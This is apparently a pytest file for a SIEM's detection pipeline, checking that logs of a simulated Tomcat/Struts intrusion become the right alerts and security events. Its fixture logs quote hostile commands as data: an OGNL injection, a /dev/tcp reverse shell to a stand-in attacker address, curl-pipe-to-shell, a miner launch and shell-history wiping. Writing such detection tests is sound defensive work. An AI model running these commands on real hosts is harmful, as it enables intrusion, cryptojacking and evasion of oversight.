"""Done-when of the SIEM detection issue, end to end: the logs of a real
multi-stage attack on a Linux host, sent through the logs API as an agent
would, become SIEM alerts that aggregate into one security event with the
right entities.

The attack: an exploit of a Java web application (Struts OGNL) makes Tomcat
run shell commands; the attacker looks around as the tomcat user, opens a
reverse shell to 203.0.113.7, downloads and runs a script, installs a cron
job and a miner, and wipes the shell history. Later another host of the
account calls the same address.
"""

import json
from datetime import UTC, datetime, timedelta

import pytest
from django.test import Client

from alerts.detection_run import run_detection
from alerts.models import Alert, AlertSource
from events.models import SecurityEvent
from secops.services import create_api_key

pytestmark = pytest.mark.usefixtures("fast_password_hashing")

HOST = "i-bp1web01-uuid-7f3a"
OTHER_HOST = "i-bp1db02-uuid-91c2"
ATTACKER = "203.0.113.7"
JAVA = "/usr/lib/jvm/java-11-openjdk-amd64/bin/java"
TOMCAT = "java -Dcatalina.base=/opt/tomcat org.apache.catalina.startup.Bootstrap start"
START = datetime.now(tz=UTC).replace(microsecond=0) - timedelta(minutes=30)


def at(seconds: int) -> str:
    return (START + timedelta(seconds=seconds)).isoformat()


def process(seconds, path, cmdline, *, parent=JAVA, parent_cmdline=TOMCAT, pid, ppid=1187):
    return {
        "type": "process",
        "host_uuid": HOST,
        "time": at(seconds),
        "pid": pid,
        "ppid": ppid,
        "path": path,
        "cmdline": cmdline,
        "user": "tomcat",
        "parent_path": parent,
        "parent_cmdline": parent_cmdline,
    }


def attack_logs() -> list[dict]:
    shell = {"parent": "/bin/bash", "parent_cmdline": "bash -i", "ppid": 23015}
    return [
        {
            "type": "http",
            "host_uuid": HOST,
            "time": at(0),
            "method": "POST",
            "host": "shop.example.com",
            "path": "/struts2-showcase/index.action",
            "status": 200,
            "src_ip": ATTACKER,
            "user_agent": "Mozilla/5.0",
            "raw": {"content_type": "%{(#_='multipart/form-data').(#cmd='whoami')}"},
        },
        process(2, "/bin/bash", "/bin/bash -c whoami", pid=23001),
        process(
            3,
            "/usr/bin/whoami",
            "whoami",
            parent="/bin/bash",
            parent_cmdline="/bin/bash -c whoami",
            pid=23002,
            ppid=23001,
        ),
        process(
            4,
            "/usr/bin/id",
            "id",
            parent="/bin/bash",
            parent_cmdline="/bin/bash -c id",
            pid=23004,
            ppid=23003,
        ),
        process(
            5,
            "/usr/bin/uname",
            "uname -a",
            parent="/bin/bash",
            parent_cmdline="/bin/bash -c uname -a",
            pid=23006,
            ppid=23005,
        ),
        process(
            10, "/bin/bash", f"/bin/bash -c bash -i >& /dev/tcp/{ATTACKER}/4444 0>&1", pid=23015
        ),
        {
            "type": "network",
            "host_uuid": HOST,
            "time": at(10),
            "pid": 23015,
            "process_path": "/bin/bash",
            "src_ip": "172.16.3.21",
            "src_port": 51122,
            "dst_ip": ATTACKER,
            "dst_port": 4444,
            "protocol": "tcp",
            "direction": "out",
        },
        process(60, "/usr/bin/curl", f"curl -fsSL http://{ATTACKER}/x.sh | sh", pid=23100, **shell),
        {
            "type": "file",
            "host_uuid": HOST,
            "time": at(62),
            "path": "/var/spool/cron/crontabs/tomcat",
            "operation": "write",
            "pid": 23120,
            "process_path": "/usr/bin/crontab",
        },
        process(
            70,
            "/tmp/.X11-unix/.x/xmrig",
            "/tmp/.X11-unix/.x/xmrig -o stratum+tcp://pool.supportxmr.com:3333 --donate-level 1",
            pid=23150,
            **shell,
        ),
        {
            "type": "dns",
            "host_uuid": HOST,
            "time": at(71),
            "domain": "pool.supportxmr.com",
            "answer": "198.51.100.80",
            "pid": 23150,
            "process_path": "/tmp/.X11-unix/.x/xmrig",
        },
        {
            "type": "network",
            "host_uuid": HOST,
            "time": at(72),
            "pid": 23150,
            "process_path": "/tmp/.X11-unix/.x/xmrig",
            "src_ip": "172.16.3.21",
            "dst_ip": "198.51.100.80",
            "dst_port": 3333,
            "protocol": "tcp",
            "direction": "out",
        },
        process(90, "/bin/bash", "bash -c history -c && rm -f ~/.bash_history", pid=23200, **shell),
    ]


EXPECTED_ALERTS = {
    "Web server or Java process spawning a shell",
    "Discovery commands run by a web server account",
    "Reverse shell command line",
    "Shell process with a network connection",
    "Download and execute",
    "Cron job written",
    "Cryptocurrency miner started",
    "DNS lookup of a mining pool",
    "Outbound connection to a mining pool port",
    "Logs or shell history wiped",
}


def send_logs(key: str, logs: list[dict], account_uid: str):
    body = {"logs": [{"account": account_uid, **log} for log in logs]}
    return Client().post(
        "/api/v1/logs",
        json.dumps(body),
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {key}",
    )


@pytest.fixture
def agent_key(tenancy):
    _, key = create_api_key(organisation=tenancy.org, account=tenancy.account_a, name="host agent")
    return key


def run_periodic_job(django_capture_on_commit_callbacks):
    """The beat job; the alert pipeline runs when each batch commits. Without
    the lag (the job would wait 30 s for ingestions still in flight)."""
    with django_capture_on_commit_callbacks(execute=True):
        report = run_detection(lag=timedelta(0))
    assert not report.errors, report.errors
    return report


def test_a_multi_stage_attack_becomes_one_security_event(
    tenancy, agent_key, django_capture_on_commit_callbacks
):
    response = send_logs(agent_key, attack_logs(), tenancy.account_a.uid)
    assert response.status_code == 200, response.content
    assert response.json()["accepted"] == len(attack_logs())

    run_periodic_job(django_capture_on_commit_callbacks)

    alerts = Alert.objects.filter(source=AlertSource.SIEM)
    assert set(alerts.values_list("name", flat=True)) == EXPECTED_ALERTS
    assert all(alert.asset.uuid == HOST for alert in alerts)
    assert all(alert.events.exists() for alert in alerts)

    # The intrusion: every webshell and reverse-shell detection of the host, in one event.
    intrusion = SecurityEvent.objects.get(rule__key="webshell-and-reverse-shell")
    intrusion_alerts = alerts.filter(type__in=["webshell", "reverse_shell"])
    assert set(intrusion.alerts.values_list("id", flat=True)) == set(
        intrusion_alerts.values_list("id", flat=True)
    )
    assert intrusion.alert_count == intrusion_alerts.count() == 4
    assert intrusion.name.startswith("Web intrusion on ")
    assert intrusion.risk == 3 and intrusion.status == "unhandled"
    assert list(intrusion.affected_assets.values_list("uuid", flat=True)) == [HOST]
    entities = {
        (link.entity.type, link.entity.value, link.role)
        for alert in intrusion.alerts.all()
        for link in alert.entity_links.select_related("entity")
    }
    assert ("ip", ATTACKER, "attacker") in entities
    assert ("ip", "172.16.3.21", "victim") in entities
    assert (
        "process",
        f"/bin/bash -c bash -i >& /dev/tcp/{ATTACKER}/4444 0>&1",
        "related",
    ) in entities
    assert ("process", TOMCAT, "related") in entities  # the parent: Tomcat's JVM
    assert ("user", "tomcat", "related") in entities
    # The whole chain, every stage's detection, in one event of the host.
    chain = SecurityEvent.objects.get(rule__key="siem-attack-chain-on-host")
    assert set(chain.alerts.values_list("id", flat=True)) == set(
        alerts.values_list("id", flat=True)
    )
    assert chain.alert_count == alerts.count()
    assert list(chain.affected_assets.values_list("uuid", flat=True)) == [HOST]
    reverse_shell = alerts.get(name="Reverse shell command line")
    assert reverse_shell.raw["records"][0]["fields"]["cmdline"].endswith("0>&1")
    assert reverse_shell.technique == "T1059.004"


def test_the_attacker_address_becomes_a_listed_bad_ip_for_other_hosts(
    tenancy, agent_key, django_capture_on_commit_callbacks
):
    send_logs(agent_key, attack_logs(), tenancy.account_a.uid)
    run_periodic_job(django_capture_on_commit_callbacks)
    beacon = {
        "type": "network",
        "host_uuid": OTHER_HOST,
        "time": at(600),
        "process_path": "/usr/bin/python3",
        "src_ip": "172.16.3.40",
        "dst_ip": ATTACKER,
        "dst_port": 443,
        "direction": "out",
    }

    send_logs(agent_key, [beacon], tenancy.account_a.uid)
    run_periodic_job(django_capture_on_commit_callbacks)

    alert = Alert.objects.get(name="Outbound connection to a known malicious IP")
    assert alert.asset.uuid == OTHER_HOST
    assert alert.type == "abnormal_network"
